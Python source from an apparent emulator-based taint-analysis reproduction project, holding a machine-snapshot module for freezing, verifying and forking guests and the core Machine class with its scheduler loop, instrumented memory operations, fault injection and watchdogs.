    def on_packet_send(self, machine, packet) -> None:
        self.events.append(("on_packet_send", packet))


def _resolve_module(machine, pid: int, base: int):
    kernel = machine.kernel
    if kernel.kernel_module.base == base:
        return kernel.kernel_module
    for module in kernel.processes[pid].modules:
        if module.base == base:
            return module
    raise SnapshotError(f"boot journal names unknown module base {base:#x} in pid {pid}")


def replay_boot_events(machine, events: Sequence[tuple]) -> None:
    """Fan the recorded boot events out to *machine*'s plugins, in order."""
    plugins = machine.plugins
    processes = machine.kernel.processes
    for ev in events:
        kind = ev[0]
        if kind == "on_phys_write":
            plugins.on_phys_write(machine, ev[1], ev[2])
        elif kind == "on_phys_copy":
            actor = processes[ev[3]] if ev[3] is not None else None
            plugins.on_phys_copy(machine, ev[1], ev[2], actor)
        elif kind == "on_file_read":
            plugins.on_file_read(machine, processes[ev[1]], ev[2], ev[3], ev[4])
        elif kind == "on_file_write":
            plugins.on_file_write(machine, processes[ev[1]], ev[2], ev[3], ev[4])
        elif kind == "on_module_load":
            plugins.on_module_load(
                machine, processes[ev[1]], _resolve_module(machine, ev[1], ev[2])
            )
        elif kind == "on_process_create":
            plugins.on_process_create(machine, processes[ev[1]])
        elif kind == "on_process_exit":
            plugins.on_process_exit(machine, processes[ev[1]], ev[2])
        elif kind == "on_frames_freed":
            plugins.on_frames_freed(machine, ev[1])
        elif kind == "on_packet_receive":
            plugins.on_packet_receive(machine, ev[1], ev[2])
        elif kind == "on_packet_send":
            plugins.on_packet_send(machine, ev[1])
        else:  # pragma: no cover - forward-compat guard
            raise SnapshotError(f"unknown boot-journal event {kind!r}")


# ----------------------------------------------------------------------
# freeze / thaw (persistent-id pickling around the machine skeleton)
# ----------------------------------------------------------------------

_TAG_MACHINE = "machine"
_TAG_ALLOCATOR = "allocator"
_TAG_MEMORY = "memory"


class _FreezePickler(pickle.Pickler):
    """Maps machine-skeleton back-references to persistent sentinels."""

    def __init__(self, file, machine: Machine) -> None:
        super().__init__(file, protocol=pickle.HIGHEST_PROTOCOL)
        self._machine = machine

    def persistent_id(self, obj):
        if obj is self._machine:
            return _TAG_MACHINE
        if obj is self._machine.allocator:
            return _TAG_ALLOCATOR
        if obj is self._machine.memory:
            return _TAG_MEMORY
        return None


class _ThawUnpickler(pickle.Unpickler):
    """Re-binds the frozen tree's sentinels onto a fresh machine."""

    def __init__(self, file, machine: Machine) -> None:
        super().__init__(file)
        self._machine = machine

    def persistent_load(self, pid):
        if pid == _TAG_MACHINE:
            return self._machine
        if pid == _TAG_ALLOCATOR:
            return self._machine.allocator
        if pid == _TAG_MEMORY:
            return self._machine.memory
        raise SnapshotError(f"unknown persistent id {pid!r}")  # pragma: no cover


def _freeze(machine: Machine, obj) -> bytes:
    buf = io.BytesIO()
    _FreezePickler(buf, machine).dump(obj)
    return buf.getvalue()


def _thaw(blob: bytes, machine: Machine):
    try:
        return _ThawUnpickler(io.BytesIO(blob), machine).load()
    except SnapshotError:
        raise
    except Exception as exc:
        raise SnapshotIntegrityError(f"frozen state failed to thaw: {exc}") from exc


# ----------------------------------------------------------------------
# the snapshot
# ----------------------------------------------------------------------

class MachineSnapshot:
    """Everything needed to materialize the post-boot guest again.

    Immutable by convention: :meth:`fork` never mutates the snapshot, so
    one snapshot serves any number of guests (and, primed before a
    worker fork, is OS-CoW-shared across the whole pool).
    """

    def __init__(self, name: str, config: MachineConfig,
                 image: SparseMemoryImage, state_blob: bytes,
                 boot_blob: bytes, events_blob: bytes,
                 max_instructions: int,
                 digest: Optional[str] = None) -> None:
        self.name = name
        self.config = config
        self.image = image
        self.state_blob = state_blob
        self.boot_blob = boot_blob
        self.events_blob = events_blob
        self.max_instructions = max_instructions
        self.digest = digest if digest is not None else self.compute_digest()
        # Thawed-blob caches.  Boot-journal tuples and scenario events
        # are immutable plain data (frozen dataclasses, tuples of
        # ints/strings), so one thaw serves every fork; the kernel-tree
        # state blob, by contrast, MUST thaw fresh per fork.  Keyed by
        # blob identity so a corrupted (replaced) blob never hits a
        # stale cache.
        self._boot_cache: Optional[Tuple[bytes, list]] = None
        self._events_cache: Optional[Tuple[bytes, list]] = None

    # -- capture -----------------------------------------------------------------

    @classmethod
    def capture(cls, scenario: Scenario, name: Optional[str] = None) -> "MachineSnapshot":
        """Boot *scenario* once (setup only, nothing executed) and freeze it.

        The capture machine carries a :class:`BootJournalRecorder` (and
        nothing else) through setup, so every plugin-observable boot
        event is journaled for replay at fork time.  The scenario's
        scheduled events are frozen alongside: a fork needs no scenario
        object -- and no builder call -- to run the sample.
        """
        machine = Machine(scenario.config)
        recorder = BootJournalRecorder()
        machine.plugins.register(recorder)
        scenario.setup(machine)
        machine.plugins.unregister(recorder)
        return cls.from_machine(
            machine,
            boot_events=recorder.events,
            events=scenario.events,
            max_instructions=scenario.max_instructions,
            name=name or scenario.name,
        )

    @classmethod
    def from_machine(cls, machine: Machine, boot_events: Sequence[tuple] = (),
                     events: Sequence[Tuple[int, object]] = (),
                     max_instructions: int = 2_000_000,
                     name: str = "snapshot") -> "MachineSnapshot":
        """Freeze *machine* as it stands (pre-run: nothing has executed)."""
        if machine._started:
            raise SnapshotError("cannot snapshot a machine that has already run")
        cpu = machine.cpu
        state = {
            "kernel": machine.kernel,
            "devices": machine.devices,
            "allocator_free": list(machine.allocator._free),
            "cpu": {
                "regs": cpu.regs.snapshot(),
                "pc": cpu.pc,
                "flag_z": cpu.flag_z,
                "flag_n": cpu.flag_n,
                "halted": cpu.halted,
                "instret": cpu.instret,
                "mmu": cpu.mmu,
            },
            "machine": {
                "dma_next": machine._dma_next,
                "events": list(machine._events),
                "event_seq": machine._event_seq,
                "journal": list(machine.journal),
                "last_syscall": machine.last_syscall,
                "current_thread": machine._current_thread,
                "fault": machine.fault,
                "fault_records": list(machine.fault_records),
                "pending_fault": machine._pending_fault,
                "syscall_override": machine._syscall_override,
            },
        }
        return cls(
            name=name,
            config=dataclasses.replace(machine.config),
            image=SparseMemoryImage.capture(machine.memory),
            state_blob=_freeze(machine, state),
            boot_blob=_freeze(machine, list(boot_events)),
            events_blob=_freeze(machine, list(events)),
            max_instructions=max_instructions,
        )

    # -- integrity ---------------------------------------------------------------

    def compute_digest(self) -> str:
        h = hashlib.sha256()
        h.update(repr(self.config).encode())
        h.update(self.image.size.to_bytes(8, "little"))
        for pno in sorted(self.image._pages):
            h.update(pno.to_bytes(8, "little"))
            h.update(self.image._pages[pno])
        for blob in (self.state_blob, self.boot_blob, self.events_blob):
            h.update(len(blob).to_bytes(8, "little"))
            h.update(blob)
        return h.hexdigest()

    def verify(self) -> None:
        """Raise :class:`SnapshotIntegrityError` on any digest mismatch."""
        actual = self.compute_digest()
        if actual != self.digest:
            raise SnapshotIntegrityError(
                f"snapshot {self.name!r} digest mismatch: "
                f"expected {self.digest[:16]}..., got {actual[:16]}..."
            )

    # -- restore -----------------------------------------------------------------

    def materialize(self, metrics=None, verify: bool = True) -> Machine:
        """A runnable guest with the frozen state restored, **no plugins**.

        The warm pool pre-forks guests at this stage (plugin-free), then
        :meth:`arm`\\ s each with the job's own plugins at lease time.
        """
        if verify:
            self.verify()
        machine = Machine(dataclasses.replace(self.config), boot_kernel=False)
        if metrics is not None:
            machine.use_metrics(metrics)
        # Memory: blit the CoW pages into the fresh zeroed buffer.  The
        # buffer object itself is never replaced -- the CPU, translator,
        # and thawed address spaces all hold references to it.
        self.image.blit_into(machine.memory)
        state = _thaw(self.state_blob, machine)
        machine.kernel = state["kernel"]
        machine.devices = state["devices"]
        machine.allocator._free[:] = state["allocator_free"]
        cpu_state = state["cpu"]
        cpu = machine.cpu
        cpu.regs.restore(cpu_state["regs"])
        cpu.pc = cpu_state["pc"]
        cpu.flag_z = cpu_state["flag_z"]
        cpu.flag_n = cpu_state["flag_n"]
        cpu.halted = cpu_state["halted"]
        cpu.instret = cpu_state["instret"]
        cpu.mmu = cpu_state["mmu"]
        m = state["machine"]
        machine._dma_next = m["dma_next"]
        machine._events = list(m["events"])
        machine._event_seq = m["event_seq"]
        machine.journal = list(m["journal"])
        machine.last_syscall = m["last_syscall"]
        machine._current_thread = m["current_thread"]
        machine.fault = m["fault"]
        machine.fault_records = list(m["fault_records"])
        machine._pending_fault = m["pending_fault"]
        machine._syscall_override = m["syscall_override"]
        return machine

    def arm(self, machine: Machine, plugins: Sequence[Plugin] = ()) -> Machine:
        """Attach *plugins* to a materialized guest and replay boot.

        Mirrors a cold ``Scenario.build``: plugins first (they must
        observe boot), then the boot-event replay standing in for setup,
        then the scenario's scheduled events.
        """
        for plugin in plugins:
            machine.plugins.register(plugin)
        if self._boot_cache is None or self._boot_cache[0] is not self.boot_blob:
            self._boot_cache = (self.boot_blob, _thaw(self.boot_blob, machine))
        replay_boot_events(machine, self._boot_cache[1])
        if self._events_cache is None or self._events_cache[0] is not self.events_blob:
            self._events_cache = (self.events_blob, _thaw(self.events_blob, machine))
        for at, event in self._events_cache[1]:
            machine.schedule(at, event)
        return machine

    def fork(self, plugins: Sequence[Plugin] = (), metrics=None,
             verify: bool = True) -> Machine:
        """Materialize + arm in one step (``Machine.fork_from`` body)."""
        return self.arm(self.materialize(metrics=metrics, verify=verify), plugins)

    def healthy(self, machine: Machine) -> bool:
        """Pool health check for a pre-forked (materialized) guest."""
        return (
            machine.kernel is not None
            and not machine._started
            and machine.fault is None
            and any(p.alive for p in machine.kernel.processes.values())
        )


# ----------------------------------------------------------------------
# warm record / replay (the snapshot-backed analysis pipeline)
# ----------------------------------------------------------------------

def snapshot_record(snapshot: MachineSnapshot, plugins: Sequence[Plugin] = (),
                    metrics=None, machine: Optional[Machine] = None) -> Recording:
    """:func:`~repro.emulator.record_replay.record`, from a warm fork.

    Pass *machine* to reuse a guest already leased (and armed) from a
    pool; otherwise one is forked here.
    """
    if machine is None:
        machine = snapshot.fork(plugins=plugins, metrics=metrics)
    stats = machine.run(snapshot.max_instructions)
    return Recording(
        scenario=None,  # warm recordings replay via snapshot_replay
        journal=list(machine.journal),
        final_instret=machine.now,
        stats=stats,
    )


def snapshot_replay(snapshot: MachineSnapshot, recording: Recording,
                    plugins: Sequence[Plugin] = (), verify: bool = True,
                    metrics=None, machine: Optional[Machine] = None) -> Machine:
    """:func:`~repro.emulator.record_replay.replay`, from a warm fork.

    The divergence check is the shared
    :func:`~repro.emulator.record_replay.verify_replay` -- warm replays
    honor the exact prefix rule cold replays do.
    """
    if machine is None:
        machine = snapshot.fork(plugins=plugins, metrics=metrics)
    machine.run(snapshot.max_instructions)
    if verify:
        verify_replay(recording, machine)
    return machine
