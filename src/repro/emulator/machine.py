"""The whole-system machine: memory + CPU + devices + kernel + plugins.

:class:`Machine` is the QEMU analog.  It owns the physical resources,
drives the scheduler loop, delivers scheduled external events (packets,
keystrokes) at deterministic instruction-count timestamps, and fans every
observable out to plugins.

Determinism contract: given the same guest setup and the same scheduled
events, two machines execute identical instruction streams.  Everything
nondeterministic enters through :meth:`schedule`, and each delivery is
journaled -- which is what makes PANDA-style record/replay work
(:mod:`repro.emulator.record_replay`).
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.emulator.devices import DeviceBoard, NetworkInterface, Packet
from repro.emulator.plugins import PluginManager
from repro.faults.errors import (
    DeviceFault,
    EmulatorFault,
    FaultMarker,
    FaultRecord,
    WatchdogExpired,
)
from repro.faults.watchdog import progress_sink
from repro.obs.metrics import MetricsRegistry, NULL_REGISTRY
from repro.guestos import layout
from repro.guestos.process import ThreadState
from repro.isa.cpu import CPU
from repro.isa.errors import GuestFault
from repro.isa.memory import FrameAllocator, PhysicalMemory, contiguous_runs
from repro.isa.registers import Reg
from repro.isa.translate import BlockTranslator


@dataclass
class MachineConfig:
    """Construction parameters for one machine."""

    mem_size: int = 1 << 20          # 1 MiB of guest RAM
    quantum: int = 100               # instructions per scheduler slice
    guest_ip: str = "169.254.57.168" # the victim VM's address in the paper
    #: Watchdog: absolute machine-clock cap; execution past this tick
    #: trips :class:`~repro.faults.errors.WatchdogExpired` (a *fault*,
    #: unlike ``run``'s ``max_instructions`` which is a graceful budget
    #: stop).  None disables.
    instruction_budget: Optional[int] = None
    #: Watchdog: max instructions any thread may retire between syscalls
    #: before it is declared a runaway loop.  None disables.
    syscall_step_budget: Optional[int] = None
    #: Execute the uninstrumented path through the basic-block
    #: translation cache (:mod:`repro.isa.translate`).  Semantically
    #: identical to instruction-at-a-time execution -- same ``instret``,
    #: journals, faults, and reports -- just faster.  Off means every
    #: uninstrumented slice runs through ``cpu.step_fast`` (the seed
    #: path, kept for differential testing and benchmarks).
    translate: bool = True
    #: Transport mode for attached taint pipelines that did not pick one
    #: themselves (:mod:`repro.taint.pipeline`): ``"inline"`` consumes
    #: each channel event at emission (the pre-pipeline behaviour),
    #: ``"batched"`` queues packed events and drains them at slice /
    #: post-syscall barriers, ``"worker"`` additionally streams every
    #: drained batch to a per-guest consumer process.
    taint_pipeline: str = "inline"


@dataclass
class RunStats:
    """What one :meth:`Machine.run` call did."""

    instructions: int = 0
    stop_reason: str = ""
    #: The terminal fault when ``stop_reason == "fault"``, else None.
    fault: Optional[FaultRecord] = None


class Machine:
    """One emulated guest machine."""

    def __init__(self, config: Optional[MachineConfig] = None,
                 boot_kernel: bool = True) -> None:
        self.config = config or MachineConfig()
        self.memory = PhysicalMemory(self.config.mem_size)
        self.allocator = FrameAllocator(self.memory, reserved_low=layout.KERNEL_RESERVED)
        self.cpu = CPU(self.memory)
        #: The basic-block translation cache (None when disabled).
        self.translator: Optional[BlockTranslator] = (
            BlockTranslator(self.memory) if self.config.translate else None
        )
        self.plugins = PluginManager()
        self.devices = DeviceBoard(nic=NetworkInterface(self.config.guest_ip))
        self._dma_next = layout.DMA_BASE
        self.metrics = NULL_REGISTRY
        self._bind_metrics()
        self.allocator.on_free = self._frame_freed
        if boot_kernel:
            # Imported here: Kernel and Machine are mutually aware, and
            # the package must be importable from either end of that edge.
            from repro.guestos.kernel import Kernel

            self.kernel = Kernel(self)
        else:
            # Snapshot-restore path: the caller installs a thawed kernel
            # (and the rest of the frozen state) -- booting one here
            # would only be thrown away.  See ``Machine.fork_from``.
            self.kernel = None
        self._events: List[Tuple[int, int, object]] = []  # (at, seq, event) heap
        self._event_seq = 0
        #: Chronological record of delivered events: (instret, event).
        self.journal: List[Tuple[int, object]] = []
        self._started = False
        #: The terminal fault that stopped :meth:`run`, or None.
        self.fault: Optional[FaultRecord] = None
        #: Every fault observed on this machine, terminal and injected.
        self.fault_records: List[FaultRecord] = []
        #: Most recently dispatched syscall number (watchdog diagnostics).
        self.last_syscall: Optional[int] = None
        self._current_thread = None
        self._pending_fault: Optional[EmulatorFault] = None
        self._syscall_override: Optional[Tuple[str, object, str]] = None

    @classmethod
    def fork_from(cls, snapshot, plugins=(), metrics=None,
                  verify: bool = True) -> "Machine":
        """Materialize a runnable guest from a frozen
        :class:`~repro.emulator.snapshot.MachineSnapshot`.

        Restores the captured physical pages (CoW-shared ``bytes``
        blitted into a fresh buffer), thaws the kernel/process/address-
        space tree, registers *plugins*, and replays the captured boot
        events so analysis state (FAROS export tags, interner counters)
        ends bit-identical to a cold boot.  With *verify* (the default)
        the snapshot's integrity digest is checked first and a mismatch
        raises :class:`~repro.emulator.snapshot.SnapshotIntegrityError`.
        """
        return snapshot.fork(plugins=plugins, metrics=metrics, verify=verify)

    # ------------------------------------------------------------------
    # observability
    # ------------------------------------------------------------------

    def use_metrics(self, registry: Optional[MetricsRegistry]) -> None:
        """Attach *registry* (None = the disabled null registry).

        Counter handles are cached on the machine at bind time, so the
        per-event cost with metrics off is a single no-op method call on
        the shared null counter -- nothing is looked up per event.
        """
        self.metrics = registry if registry is not None else NULL_REGISTRY
        self._bind_metrics()

    def _bind_metrics(self) -> None:
        m = self.metrics
        self._ctr_syscalls = m.counter("machine.syscalls")
        self._ctr_packets_in = m.counter("machine.packets_received")
        self._ctr_packets_out = m.counter("machine.packets_sent")
        self._ctr_phys_writes = m.counter("machine.phys_writes")
        self._ctr_phys_copies = m.counter("machine.phys_copies")
        self._ctr_faults = m.counter("machine.guest_faults")
        self._ctr_machine_faults = m.counter("machine.faults")
        self._ctr_injected_faults = m.counter("machine.injected_faults")
        m.gauge("machine.instructions", lambda: self.cpu.instret)
        m.gauge("machine.events_delivered", lambda: len(self.journal))
        m.gauge("machine.fault_records", lambda: len(self.fault_records))
        m.gauge(
            "machine.watchdog.instruction_budget",
            lambda: self.config.instruction_budget or 0,
        )
        m.gauge(
            "machine.watchdog.syscall_step_budget",
            lambda: self.config.syscall_step_budget or 0,
        )
        translator = self.translator
        if translator is not None:
            m.gauge("translate.translations", lambda: translator.translations)
            m.gauge("translate.executions", lambda: translator.executions)
            m.gauge("translate.invalidations", lambda: translator.invalidations)
            m.gauge("translate.chain_hits", lambda: translator.chain_hits)
            m.gauge("translate.single_steps", lambda: translator.single_steps)
            m.gauge("translate.cached_blocks", translator.cached_blocks)
            # The translated-tainted tier's retirement counters.
            m.gauge("translate.taint_lookups", lambda: translator.taint_lookups)
            m.gauge("translate.taint_executions", lambda: translator.taint_executions)
            m.gauge(
                "translate.taint_single_steps", lambda: translator.taint_single_steps
            )
            m.gauge(
                "translate.taint_dirty_exits", lambda: translator.taint_dirty_exits
            )
            # Byte-precise fetch-range probes on dirty shadow pages.
            m.gauge(
                "translate.taint_range_checks", lambda: translator.taint_range_checks
            )
            m.gauge(
                "translate.taint_range_cache_hits",
                lambda: translator.taint_range_cache_hits,
            )
            m.gauge(
                "translate.taint_dirty_page_runs",
                lambda: translator.taint_dirty_page_runs,
            )
            # Per-block data-footprint summaries (write-set cache).
            m.gauge(
                "translate.taint_footprint_checks",
                lambda: translator.taint_footprint_checks,
            )
            m.gauge(
                "translate.taint_footprint_cache_hits",
                lambda: translator.taint_footprint_cache_hits,
            )
            m.gauge(
                "translate.taint_footprint_delegations",
                lambda: translator.taint_footprint_delegations,
            )

    # ------------------------------------------------------------------
    # time & events
    # ------------------------------------------------------------------

    @property
    def now(self) -> int:
        """The machine clock: retired instructions since boot."""
        return self.cpu.instret

    def schedule(self, at: int, event: object) -> None:
        """Deliver *event* once the clock reaches *at* (absolute ticks).

        *event* must expose ``deliver(machine)``; see
        :mod:`repro.emulator.record_replay` for the standard event types.
        """
        heapq.heappush(self._events, (at, self._event_seq, event))
        self._event_seq += 1

    def _next_event_at(self) -> Optional[int]:
        return self._events[0][0] if self._events else None

    def _deliver_due_events(self) -> None:
        while self._events and self._events[0][0] <= self.now:
            _at, _seq, event = heapq.heappop(self._events)
            self.journal.append((self.now, event))
            event.deliver(self)

    # ------------------------------------------------------------------
    # instrumented physical-memory operations (the kernel's data paths)
    # ------------------------------------------------------------------

    def phys_write(self, paddrs, data: bytes, source: str) -> None:
        """Write external *data* (device input, file content) into memory.

        Bulk path: the per-byte *paddrs* tuple decomposes into at most
        one run per touched guest page, each stored with a single slice
        write (which also handles the watched-code-page version bumps).
        Plugins still receive the full per-byte tuple.
        """
        pos = 0
        for start, length in contiguous_runs(paddrs):
            self.memory.write_bytes(start, data[pos : pos + length])
            pos += length
        self._ctr_phys_writes.inc()
        self.plugins.on_phys_write(self, tuple(paddrs), source)

    def phys_copy(self, dst_paddrs, src_paddrs, actor=None) -> None:
        """Kernel-mediated byte move: ``dst[i] <- src[i]`` with taint.

        *actor* is the guest process the kernel acts for (syscall
        requester); provenance plugins tag moved bytes with it.

        Pairwise-contiguous stretches move as one read/write-bytes pair
        (``read_bytes`` snapshots, so backward overlap is safe); only a
        *forward*-overlapping run keeps the legacy byte loop, whose
        index order deliberately ripples bytes the same copy wrote --
        the shadow memory's ``copy_range`` mirrors exactly this split.
        """
        if len(dst_paddrs) != len(src_paddrs):
            raise DeviceFault(
                "phys-copy",
                f"length mismatch: {len(dst_paddrs)} dst vs {len(src_paddrs)} src bytes",
            )
        memory = self.memory
        i, n = 0, len(dst_paddrs)
        while i < n:
            dst, src = dst_paddrs[i], src_paddrs[i]
            j = i + 1
            while (
                j < n
                and dst_paddrs[j] == dst + (j - i)
                and src_paddrs[j] == src + (j - i)
            ):
                j += 1
            length = j - i
            if src < dst < src + length:
                for k in range(length):
                    memory.write_byte(dst + k, memory.read_byte(src + k))
            else:
                memory.write_bytes(dst, memory.read_bytes(src, length))
            i = j
        self._ctr_phys_copies.inc()
        self.plugins.on_phys_copy(self, tuple(dst_paddrs), tuple(src_paddrs), actor)

    def _frame_freed(self, frame: int) -> None:
        self.plugins.on_frames_freed(self, (frame,))

    def dma_alloc(self, n: int) -> Tuple[int, ...]:
        """Reserve *n* bytes of the NIC DMA ring (wraps around)."""
        if n > layout.DMA_SIZE:
            raise DeviceFault(
                "nic-dma", f"packet of {n} bytes exceeds {layout.DMA_SIZE}-byte DMA ring"
            )
        if self._dma_next + n > layout.DMA_BASE + layout.DMA_SIZE:
            self._dma_next = layout.DMA_BASE
        start = self._dma_next
        self._dma_next += n
        return tuple(range(start, start + n))

    def send_packet(self, packet: Packet) -> None:
        """Transmit *packet* out of the guest (NIC tx path)."""
        self.devices.nic.transmit(packet)
        self._ctr_packets_out.inc()
        self.plugins.on_packet_send(self, packet)

    # ------------------------------------------------------------------
    # fault plumbing (graceful degradation + deterministic injection)
    # ------------------------------------------------------------------

    def inject_syscall_result(self, result: int, note: str) -> None:
        """Arm an override: the syscall being entered returns *result*
        without running (called from ``on_syscall_enter`` hooks)."""
        self._syscall_override = ("result", result, note)

    def inject_syscall_fault(self, fault: EmulatorFault, note: str) -> None:
        """Arm an override: the syscall being entered raises *fault*."""
        self._syscall_override = ("fault", fault, note)

    def note_injected_fault(self, kind: str, detail: str, journal: bool = True) -> FaultRecord:
        """Record a non-terminal injected fault (the run continues).

        With *journal*, a :class:`~repro.faults.errors.FaultMarker` is
        appended to the delivery journal so replay verification covers
        the injection point; pass ``journal=False`` when the caller is
        itself a journaled event.
        """
        if journal:
            self.journal.append((self.now, FaultMarker(f"{kind}: {detail}")))
        thread = self._current_thread
        record = FaultRecord(
            kind=kind,
            detail=detail,
            tick=self.now,
            pc=self.cpu.pc,
            pid=thread.process.pid if thread is not None else None,
            process=thread.process.name if thread is not None else None,
            syscall=self.last_syscall,
            injected=True,
        )
        self.fault_records.append(record)
        self._ctr_injected_faults.inc()
        self.plugins.on_machine_fault(self, record)
        return record

    def _apply_syscall_override(self, override: Tuple[str, object, str]):
        mode, payload, note = override
        self.journal.append((self.now, FaultMarker(note)))
        if mode == "result":
            self.note_injected_fault("InjectedFault", note, journal=False)
            return payload
        raise payload  # type: ignore[misc]  # an armed EmulatorFault

    # ------------------------------------------------------------------
    # the execution loop
    # ------------------------------------------------------------------

    def run(self, max_instructions: int = 2_000_000) -> RunStats:
        """Run until idle or until *max_instructions* more retire.

        Any :class:`~repro.faults.errors.EmulatorFault` that reaches
        this loop -- a device fault out of event delivery, a watchdog or
        taint-budget trip, an injected fault -- stops the run gracefully:
        the machine records a :class:`~repro.faults.errors.FaultRecord`
        (``stats.stop_reason == "fault"``) instead of propagating a host
        exception, so a degraded analysis can still produce a report.
        """
        if not self._started:
            self._started = True
            self.plugins.on_machine_start(self)
        stats = RunStats()
        deadline = self.now + max_instructions
        insn_budget = self.config.instruction_budget
        progress = progress_sink()
        try:
            while self.now < deadline:
                self._deliver_due_events()
                if self._pending_fault is not None:
                    fault, self._pending_fault = self._pending_fault, None
                    raise fault
                if insn_budget is not None and self.now >= insn_budget:
                    raise WatchdogExpired(
                        "instruction", insn_budget,
                        f"machine clock reached {self.now}",
                    )
                thread = self.kernel.pick_thread()
                if thread is None:
                    if not self._skip_idle_time(deadline):
                        stats.stop_reason = "idle"
                        break
                    continue
                self._run_thread(thread, min(self.config.quantum, deadline - self.now))
                if progress is not None:
                    progress.update(self)
        except EmulatorFault as fault:
            record = FaultRecord.from_exception(fault, self)
            self.fault = record
            self.fault_records.append(record)
            self._ctr_machine_faults.inc()
            stats.stop_reason = "fault"
            stats.fault = record
            if progress is not None:
                progress.update(self)
            self.plugins.on_machine_fault(self, record)
        if not stats.stop_reason:
            stats.stop_reason = "budget" if self.now >= deadline else "idle"
        stats.instructions = self.now
        self.plugins.on_machine_stop(self)
        return stats

    def _skip_idle_time(self, deadline: int) -> bool:
        """Advance the clock to the next wake source; False if none exists."""
        candidates = []
        event_at = self._next_event_at()
        if event_at is not None:
            candidates.append(event_at)
        wake_at = self.kernel.next_wake_at()
        if wake_at is not None:
            candidates.append(wake_at)
        if not candidates:
            return False
        target = min(candidates)
        if target > deadline:
            # The next wake source is beyond this run's budget.
            self.cpu.instret = deadline
            return False
        self.cpu.instret = max(self.now + 1, target)
        return True

    def _run_thread(self, thread, quantum: int) -> None:
        cpu = self.cpu
        self._current_thread = thread
        cpu.mmu = thread.process.aspace
        cpu.restore_context(thread.context)
        cpu.halted = False
        thread.state = ThreadState.RUNNING
        # Pick the execution tier per slice (revisited after every
        # syscall -- the only point inside a slice where new
        # analysis-relevant state, like a tainted packet landing in a
        # recv buffer, can appear and re-arm a gated plugin):
        #
        # * "none"  -- nothing instruments instructions: translated
        #   blocks (or step_fast when translation is off);
        # * "taint" -- every per-instruction consumer reduces to one
        #   taint tracker: translated blocks with fused Table I
        #   propagation closures (the translated-tainted tier);
        # * "full"  -- some plugin needs the real effect stream:
        #   interpreter stepping with the on_insn_exec fan-out.
        #
        # Whichever tier runs, the budget passed down is the remaining
        # quantum, so slice boundaries -- and with them event delivery,
        # watchdog checks, and FaultPlan instret triggers -- land on the
        # exact same retirement counts as instruction-at-a-time
        # execution.
        plugins = self.plugins
        on_insn_exec = plugins.on_insn_exec
        on_insns_skipped = plugins.on_insns_skipped
        mode, taint_unit = plugins.insn_effects_plan()
        if mode == "taint" and self.translator is None:
            mode = "full"  # no translation cache: interpreter-step
        instrumented = mode == "full"
        translator = self.translator if mode == "none" else None
        taint_ctx = (
            taint_unit.block_context(self, thread) if mode == "taint" else None
        )
        step = cpu.step if instrumented else cpu.step_fast
        executed = 0
        skipped = 0  # uninstrumented retirements not yet reported
        sys_at = 0   # `executed` offset of this slice's latest syscall
        while executed < quantum:
            if translator is not None:
                before = cpu.instret
                try:
                    reason = translator.run(cpu, quantum - executed)
                except GuestFault as fault:
                    delta = cpu.instret - before
                    executed += delta
                    skipped += delta
                    if skipped:
                        on_insns_skipped(self, thread, skipped)
                    self._ctr_faults.inc()
                    plugins.on_guest_fault(self, thread, fault)
                    self.kernel.crash_process(thread.process, fault)
                    return
                delta = cpu.instret - before
                executed += delta
                skipped += delta
                if reason == "halt":
                    if skipped:
                        on_insns_skipped(self, thread, skipped)
                    thread.context = cpu.context()
                    self.kernel.terminate_process(thread.process, cpu.regs.read(Reg.R0))
                    return
                if reason != "syscall":
                    continue
            elif taint_ctx is not None:
                # The translated-tainted tier: the tracker's counters
                # are maintained inside block execution (no bulk
                # on_insns_skipped here -- every retirement is already
                # accounted with its exact fast/slow split).
                before = cpu.instret
                try:
                    reason = self.translator.run_taint(
                        cpu, quantum - executed, taint_ctx
                    )
                except GuestFault as fault:
                    executed += cpu.instret - before
                    self._ctr_faults.inc()
                    plugins.on_guest_fault(self, thread, fault)
                    self.kernel.crash_process(thread.process, fault)
                    return
                executed += cpu.instret - before
                if reason == "halt":
                    thread.context = cpu.context()
                    self.kernel.terminate_process(thread.process, cpu.regs.read(Reg.R0))
                    return
                if reason != "syscall":
                    continue
            else:
                try:
                    fx = step()
                except GuestFault as fault:
                    if skipped:
                        on_insns_skipped(self, thread, skipped)
                    self._ctr_faults.inc()
                    plugins.on_guest_fault(self, thread, fault)
                    self.kernel.crash_process(thread.process, fault)
                    return
                executed += 1
                if instrumented:
                    on_insn_exec(self, thread, fx)
                else:
                    skipped += 1
                if fx.halted:
                    if skipped:
                        on_insns_skipped(self, thread, skipped)
                    thread.context = cpu.context()
                    self.kernel.terminate_process(thread.process, cpu.regs.read(Reg.R0))
                    return
                if not fx.syscall:
                    continue

            # -- syscall trap (shared by both execution paths) -----------------
            if skipped:
                on_insns_skipped(self, thread, skipped)
                skipped = 0
            number = cpu.regs.read(Reg.R0)
            args = tuple(cpu.regs.read(r) for r in (Reg.R1, Reg.R2, Reg.R3, Reg.R4, Reg.R5))
            thread.context = cpu.context()
            self._ctr_syscalls.inc()
            self.last_syscall = number
            sys_at = executed
            thread.steps_since_syscall = 0
            plugins.on_syscall_enter(self, thread, number, args)
            override = self._syscall_override
            if override is None:
                result = self.kernel.syscall(thread, number, args)
            else:
                self._syscall_override = None
                result = self._apply_syscall_override(override)
            if result is None:
                return  # blocked or terminated; kernel owns the thread now
            thread.context["regs"][Reg.R0] = result & 0xFFFFFFFF
            plugins.on_syscall_return(self, thread, number, result)
            if thread.state is not ThreadState.RUNNING:
                return  # suspended/killed by its own syscall
            cpu.restore_context(thread.context)
            mode, taint_unit = plugins.insn_effects_plan()
            if mode == "taint" and self.translator is None:
                mode = "full"
            instrumented = mode == "full"
            translator = self.translator if mode == "none" else None
            taint_ctx = (
                taint_unit.block_context(self, thread) if mode == "taint" else None
            )
            step = cpu.step if instrumented else cpu.step_fast
        if skipped:
            on_insns_skipped(self, thread, skipped)
        thread.context = cpu.context()
        # Syscall-step watchdog, accounted per slice (never per
        # instruction) so the uninstrumented fast path stays fast.
        thread.steps_since_syscall += executed - sys_at
        budget = self.config.syscall_step_budget
        if budget is not None and thread.steps_since_syscall > budget:
            raise WatchdogExpired(
                "syscall-step", budget,
                f"{thread.process.name}(tid={thread.tid}) retired "
                f"{thread.steps_since_syscall} instructions without a syscall",
            )
        self.kernel.requeue(thread)


#: The result of one machine run.  ``RunStats`` predates the fault
#: taxonomy; ``MachineResult`` is the name the degradation contract uses
#: (a run *result* that may carry a :class:`FaultRecord`).
MachineResult = RunStats
